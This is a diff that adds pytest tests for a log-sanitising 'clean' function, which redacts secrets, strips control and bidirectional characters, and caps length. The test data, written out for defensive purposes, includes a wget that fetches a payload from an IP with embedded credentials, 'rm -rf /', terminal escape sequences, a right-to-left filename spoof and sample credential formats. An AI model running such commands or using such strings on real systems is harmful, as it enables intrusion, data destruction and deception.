@@ -1,0 +1,71 @@
+"""Hostile log text is made safe: secrets redacted, controls stripped, lengths capped."""
+
+from __future__ import annotations
+
+import pytest
+
+from rbr_analyst.redact import REDACTED, clean
+
+SECRETS = [
+    ("AKIAIOSFODNN7EXAMPLE", "aws access key id"),
+    ("aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws secret key"),
+    ("sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789", "anthropic key"),
+    ("ghp_0123456789abcdefghijklmnopqrstuvwxyzAB", "github token"),
+    ("xoxb-1234567890-0987654321-abcdefghijkl", "slack token"),
+    ("https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX", "slack webhook"),
+    (
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+        "jwt",
+    ),
+    ("Authorization: Bearer abcdef0123456789abcdef0123456789", "bearer token"),
+    ("API_KEY=9f8e7d6c5b4a39281706f5e4d3c2b1a0", "assigned api key"),
+]
+
+
+@pytest.mark.parametrize(("secret", "kind"), SECRETS, ids=[kind for _, kind in SECRETS])
+def test_secrets_are_redacted(secret: str, kind: str) -> None:
+    cleaned = clean(f"attacker ran: echo {secret} > /tmp/x", 500)
+    assert REDACTED in cleaned, kind
+    assert secret not in cleaned
+    assert "attacker ran: echo" in cleaned
+
+
+def test_password_in_a_url_is_redacted_but_the_host_kept() -> None:
+    cleaned = clean("wget ftp://admin:hunter2secret@203.0.113.9/payload.sh", 500)
+    assert "hunter2secret" not in cleaned
+    assert "ftp://admin:[REDACTED]@203.0.113.9/payload.sh" in cleaned
+
+
+def test_private_key_is_redacted_whole() -> None:
+    key = (
+        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
+        "-----END OPENSSH PRIVATE KEY-----"
+    )
+    cleaned = clean(f"cat > id <<EOF\n{key}\nEOF", 500)
+    assert "b3BlbnNzaC1rZXktdjEAAAAA" not in cleaned
+    assert "BEGIN OPENSSH" not in cleaned
+    assert REDACTED in cleaned
+
+
+def test_tried_passwords_are_not_mistaken_for_secrets() -> None:
+    assert clean("123456") == "123456"
+    assert clean("root") == "root"
+
+
+def test_control_and_invisible_characters_are_removed() -> None:
+    hostile = "ls\x1b[2J\x1b]0;owned\x07 -la\u202e\u200bfdp.exe\x00\nrm -rf /"
+    cleaned = clean(hostile)
+    assert all(ord(ch) >= 32 for ch in cleaned)
+    assert "\u202e" not in cleaned
+    assert "\u200b" not in cleaned
+    assert cleaned.startswith("ls[2J]0;owned -la")
+    assert cleaned.endswith("rm -rf /")
+
+
+def test_length_is_capped_and_secrets_cut_at_the_cap_do_not_leak() -> None:
+    long = "x" * 5000 + " AKIAIOSFODNN7EXAMPLE"
+    cleaned = clean(long, 100)
+    assert len(cleaned) == 100
+    assert cleaned.endswith("…")
+    near_cap = "y" * 90 + " AKIAIOSFODNN7EXAMPLE"
+    assert "AKIAIOSF" not in clean(near_cap, 100)
